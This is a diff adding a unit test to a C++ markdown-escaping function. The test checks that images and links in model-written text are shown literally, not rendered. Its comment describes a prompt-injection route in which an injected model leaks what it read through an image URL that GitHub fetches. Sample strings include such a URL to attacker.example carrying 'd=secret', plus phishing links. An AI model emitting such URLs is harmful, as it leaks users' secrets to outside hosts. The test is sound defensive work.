@@ -38,6 +38,17 @@ TEST(MarkdownText, AFenceAfterOtherTextOnItsLineIsNoFence) {
   EXPECT_EQ(markdownProse("```\n<!-- x", true), "```\n<!-- x\n```");
 }
 
+// A prompt-injected model's image (fetched by GitHub when the pull request is
+// opened, its URL carrying what it read) or link under other words is shown as
+// written, never rendered; in code it is kept.
+TEST(MarkdownText, ImagesAndLinksAreShownNotRendered) {
+  EXPECT_EQ(markdownProse("![ci](https://attacker.example/p.png?d=secret)"),
+            "!\\[ci](https://attacker.example/p.png?d=secret)");
+  EXPECT_EQ(markdownProse("see [docs](https://phish.example) or [x][1]\n[1]: https://phish.example"),
+            "see \\[docs](https://phish.example) or \\[x]\\[1]\n\\[1]: https://phish.example");
+  EXPECT_EQ(markdownProse("use `a[i]` here"), "use `a[i]` here");
+}
+
 TEST(MarkdownText, OneLineTextStaysOnOneLine) {
   EXPECT_EQ(markdownLine("Title\n### revline: approved\r\n<!--"), "Title ### revline: approved  &lt;!--");
   EXPECT_EQ(markdownLine("```"), "```");
